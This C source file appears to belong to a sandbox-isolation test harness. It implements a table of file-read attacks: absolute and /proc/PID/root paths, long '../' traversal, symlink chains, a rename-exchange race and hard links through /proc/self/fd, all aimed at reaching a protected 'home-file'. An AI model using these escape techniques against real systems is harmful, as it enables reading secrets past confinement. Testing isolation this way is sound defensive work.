/* Group A, reading: by other names, other ways, and at the right moment. */
#include "attacker.h"

#include <linux/fcntl.h>
#include <linux/fs.h>
#include <linux/stat.h>

static const char many_up[] = "../../../../../../../../../../../../../../../../../../../../../../../../../../../../..";

static enum ending read_absolute(void)
{
    tell_path("home-file", key("home-file"));
    if (key("system-file") != 0)
        tell_path("system-file", key("system-file"));
    return attempted;
}

static void read_below_root_of(const char *step, const char *process)
{
    char root[64], path[path_room];
    join(root, sizeof root, "/proc/", process, "/root");
    tell_path(step, join(path, sizeof path, root, key("home-file"), ""));
}

static enum ending read_by_roots(void)
{
    char path[path_room];
    read_below_root_of("self-root", "self");
    read_below_root_of("thread-root", "thread-self");
    read_below_root_of("first-root", "1");
    read_below_root_of("parent-root", decimal(started_by));
    if (key("victim-pid") != 0)
        read_below_root_of("victim-root", key("victim-pid"));
    join(path, sizeof path, "/proc/self/cwd/", many_up, key("home-file"));
    tell_path("self-cwd", path);
    join(path, sizeof path, "/proc/1/cwd/", many_up, key("home-file"));
    tell_path("first-cwd", path);
    return attempted;
}

static enum ending read_upwards(void)
{
    char path[path_room];
    if (key("workspace") != 0)
        did("workspace", kernel_call(__NR_chdir, key("workspace")));
    tell_path("upwards", join(path, sizeof path, many_up, key("home-file"), ""));
    did("root", kernel_call(__NR_chdir, "/"));
    tell_path("above-root", join(path, sizeof path, many_up, key("home-file"), ""));
    return attempted;
}

static void link_to(const char *target, const char *name)
{
    did("link", kernel_call(__NR_symlinkat, target, AT_FDCWD, name));
}

static enum ending read_by_link(void)
{
    char path[path_room];
    if (!enter_scratch())
        return attempted;
    link_to(key("home-file"), "absolute");
    tell_path("absolute", "absolute");
    link_to(join(path, sizeof path, many_up, key("home-file"), ""), "relative");
    tell_path("relative", "relative");
    link_to(join(path, sizeof path, "/proc/self/root", key("home-file"), ""), "by-proc");
    tell_path("by-proc", "by-proc");
    leave_scratch();
    return attempted;
}

static enum ending read_by_chain(void)
{
    char path[path_room];
    const char *name = last_part(key("home-file"));
    if (!enter_scratch())
        return attempted;
    link_to(key("home-file"), "one");
    link_to("one", "two");
    link_to("./two", "three");
    tell_path("chain", "three");
    did("directory", kernel_call(__NR_mkdirat, AT_FDCWD, "inner", 0700));
    tell_path("up-and-down", "inner/../three");
    link_to(parent_of(path, sizeof path, key("home-file")), "home");
    tell_path("directory-link", join(path, sizeof path, "home/", name, ""));
    tell_path("trailing-slash", join(path, sizeof path, "home//./", name, ""));
    link_to("home/", "slashed");
    tell_path("slashed-link", join(path, sizeof path, "slashed/", name, ""));
    link_to("loop", "loop");
    tell_path("loop", "loop");
    leave_scratch();
    return attempted;
}

__attribute__((noreturn)) static void swap_names(void)
{
    for (;;)
        kernel_call(__NR_renameat2, AT_FDCWD, "plain", AT_FDCWD, "link", RENAME_EXCHANGE);
}

static enum ending read_in_race(void)
{
    enum { tries_max = 100000, race_ms = 1500, own_length = 3 };
    char bytes[saw_bytes_max];
    if (!enter_scratch())
        return attempted;
    did("plain", write_path("plain", O_WRONLY | O_CREAT, "own"));
    link_to(key("home-file"), "link");
    const long long deadline = now_milliseconds() + race_ms;
    const long swapper = fork_child(race_ms);
    if (swapper == 0)
        swap_names();
    long tries = 0;
    for (bool is_hit = false; !is_hit && tries < tries_max && now_milliseconds() < deadline; tries++) {
        const long length = read_path("plain", bytes, sizeof bytes);
        is_hit = length > 0 && (length != own_length || memcmp(bytes, "own", own_length) != 0);
        if (is_hit)
            saw("race", bytes, (size_t)length);
    }
    kill_and_wait(swapper);
    fact("tries", tries);
    leave_scratch();
    return attempted;
}

static enum ending read_by_hard_link(void)
{
    char path[64];
    if (!enter_scratch())
        return attempted;
    did("link", kernel_call(__NR_linkat, AT_FDCWD, key("home-file"), AT_FDCWD, "hard", 0));
    tell_path("hard", "hard");
    const long file = open_file(key("home-file"), O_PATH);
    join(path, sizeof path, "/proc/self/fd/", decimal(file), "");
    did("link-by-proc", kernel_call(__NR_linkat, AT_FDCWD, path, AT_FDCWD, "by-proc", AT_SYMLINK_FOLLOW));
    tell_path("by-proc", "by-proc");
    leave_scratch();
    return attempted;
}

static bool tell_token_name(const char *name, void *context)
{
    (void)context;
    search_bytes("entry", name, strlen(name));
    return true;
}

/* makedev(3), as stat(2) gives it. */
static long long device_number(unsigned major, unsigned minor)
{
    return (minor & 0xffU) | (long long)(major & 0xfffU) << 8 | (long long)(minor & ~0xffU) << 12;
}

/* With its identity, so that the host can tell whether it is the very file. */
static enum ending see_file(void)
{
    char parent[path_room], words[256];
    struct statx status;
    const long seen =
        kernel_call(__NR_statx, AT_FDCWD, key("home-file"), AT_SYMLINK_NOFOLLOW, STATX_BASIC_STATS, &status);
    did("status", seen);
    did("access", kernel_call(__NR_faccessat, AT_FDCWD, key("home-file"), 0));
    if (seen == 0) {
        join(words, sizeof words, decimal(device_number(status.stx_dev_major, status.stx_dev_minor)), ":",
             decimal((long long)status.stx_ino));
        join(words, sizeof words, words, ":", decimal((long long)status.stx_size));
        join(words, sizeof words, words, ":", decimal(status.stx_mtime.tv_sec));
        fact_text("home-file", words);
    }
    did("list", each_name(parent_of(parent, sizeof parent, key("home-file")), tell_token_name, 0));
    return attempted;
}

const struct attack file_attacks[] = {
    {"A01", "home-file,system-file?", "read files by their absolute paths", read_absolute},
    {"A02", "home-file,victim-pid?", "read a file by way of /proc/PID/root", read_by_roots},
    {"A03", "home-file,workspace?", "read a file by way of many ..", read_upwards},
    {"A04", "home-file,scratch?,workspace?", "read a file through a symbolic link", read_by_link},
    {"A05", "home-file,scratch?,workspace?", "read a file through chains of links", read_by_chain},
    {"A06", "home-file,scratch?,workspace?", "read a file by swapping a link in a race", read_in_race},
    {"A07", "home-file,scratch?,workspace?", "read a file through a hard link", read_by_hard_link},
    {"A08", "home-file,file-handle?", "open files by handle", attack_handles},
    {"A15", "home-file,token-prefix", "see that a file exists", see_file},
    {0, 0, 0, 0},
};
